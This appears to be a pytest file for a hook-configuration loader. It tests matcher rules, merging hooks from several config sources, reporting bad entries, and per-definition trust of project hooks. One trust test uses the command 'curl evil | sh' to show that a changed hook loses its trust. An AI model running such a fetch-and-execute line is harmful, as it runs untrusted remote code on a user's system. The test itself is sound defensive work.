"""Where hooks come from, matchers, and the trust of project hooks (server.hooks.config)."""

from __future__ import annotations

import json
from pathlib import Path

import pytest

from server.config import load_settings
from server.hooks.config import TrustStore, load_hooks, matches


@pytest.mark.parametrize(
    ("matcher", "name", "expected"),
    [
        ("", "Bash", True),
        ("*", "mcp__github__create_issue", True),
        ("Bash", "Bash", True),
        ("Bash", "BashOutput", False),  # a plain name matches exactly, not as a prefix
        ("Edit|Write", "Write", True),
        ("Edit|Write", "Read", False),
        ("Notebook.*", "NotebookEdit", True),
        ("mcp__memory__.*", "mcp__memory__create", True),
        ("mcp__memory__.*", "mcp__github__x", False),
        ("[", "Bash", False),  # a broken regex matches nothing instead of failing the turn
    ],
)
def test_matchers_as_claude_reads_them(matcher: str, name: str, expected: bool) -> None:
    assert matches(matcher, name) is expected


def hooks(event: str, command: str, matcher: str = "", **extra: object) -> dict[str, object]:
    hook = {"type": "command", "command": command, **extra}
    return {"hooks": {event: [{"matcher": matcher, "hooks": [hook]}]}}


def test_every_source_in_order_with_problems_left_out(tmp_path: Path) -> None:
    home, root, user = tmp_path / "home", tmp_path / "ws", tmp_path / "user"
    (home).mkdir()
    (root / ".tether").mkdir(parents=True)
    (root / ".claude").mkdir()
    (user / ".claude").mkdir(parents=True)
    (home / "hooks.json").write_text(json.dumps(hooks("PreToolUse", "a", "Bash", timeout=5)))
    (root / ".tether" / "hooks.json").write_text(json.dumps(hooks("Stop", "b")))
    (root / ".claude" / "settings.json").write_text(
        json.dumps({"model": "x", **hooks("PostToolUse", "c", "Edit")})
    )
    (root / ".claude" / "settings.local.json").write_text("{broken")
    (user / ".claude" / "settings.json").write_text(json.dumps({"theme": "dark"}))
    toml = {"UserPromptSubmit": [{"hooks": [{"type": "command", "command": "d"}]}]}

    config = load_hooks(home, [root], toml_hooks=toml, import_claude=True, user_home=user)
    assert [(c.event, c.command, c.source.project) for c in config.commands] == [
        ("PreToolUse", "a", False),
        ("UserPromptSubmit", "d", False),
        ("Stop", "b", True),
        ("PostToolUse", "c", True),
    ]
    assert config.commands[0].timeout_s == 5 and config.commands[1].timeout_s == 60
    (problem,) = config.problems
    assert "settings.local.json: not read" in problem
    assert [c.command for c in config.matching("PreToolUse", "Bash")] == ["a"]
    assert config.matching("PreToolUse", "Read") == []

    without = load_hooks(home, [root], toml_hooks=toml, user_home=user)
    assert [c.command for c in without.commands] == ["a", "d", "b"]  # no Claude import


def test_bad_entries_are_reported_not_run(tmp_path: Path) -> None:
    (tmp_path / "hooks.json").write_text(
        json.dumps(
            {
                "hooks": {
                    "PreToolUs": [],
                    "Stop": [
                        {"hooks": [{"type": "prompt", "prompt": "x"}]},
                        {"hooks": [{"type": "command", "command": "ok", "timeout": -1}]},
                        {"matcher": 3, "hooks": []},
                        {"nohooks": True},
                    ],
                }
            }
        )
    )
    config = load_hooks(tmp_path, [])
    assert [(c.command, c.timeout_s) for c in config.commands] == [("ok", 60.0)]
    text = "\n".join(config.problems)
    for part in ("unknown hook event `PreToolUs`", "type `command`", "-1", "`matcher`", "`hooks`"):
        assert part in text


def test_config_toml_hooks_table(tmp_path: Path) -> None:
    (tmp_path / "config.toml").write_text(
        'hooks_import_claude = true\n[[hooks.PreToolUse]]\nmatcher = "Bash"\n'
        '[[hooks.PreToolUse.hooks]]\ntype = "command"\ncommand = "echo hi"\n'
    )
    settings = load_settings(environ={"TETHER_HOME": str(tmp_path)})
    assert settings.warnings == () and settings.hooks_import_claude
    config = load_hooks(tmp_path, [], toml_hooks=settings.hooks)
    assert [(c.event, c.matcher, c.command) for c in config.commands] == [
        ("PreToolUse", "Bash", "echo hi")
    ]


def test_project_trust_is_per_definition_and_a_change_asks_again(tmp_path: Path) -> None:
    home, root = tmp_path / "home", tmp_path / "ws"
    (root / ".tether").mkdir(parents=True)
    hooks_file = root / ".tether" / "hooks.json"
    hooks_file.write_text(json.dumps(hooks("Stop", "make test")))
    store = TrustStore(home)
    (source,) = load_hooks(home, [root]).sources
    assert store.state(source) == "unknown"
    store.remember(source, trusted=False)
    assert store.state(source) == "declined"
    store.remember(source, trusted=True)
    assert store.state(source) == "trusted"
    # Reformatting keeps the trust (the hash is of the canonical definition)...
    hooks_file.write_text(json.dumps(hooks("Stop", "make test"), indent=4))
    (same,) = load_hooks(home, [root]).sources
    assert store.state(same) == "trusted"
    # ...a changed command does not.
    hooks_file.write_text(json.dumps(hooks("Stop", "curl evil | sh")))
    (changed,) = load_hooks(home, [root]).sources
    assert store.state(changed) == "unknown"
    (user_source,) = load_hooks(root / ".tether", []).sources  # a user file needs no trust
    assert store.state(user_source) == "trusted"
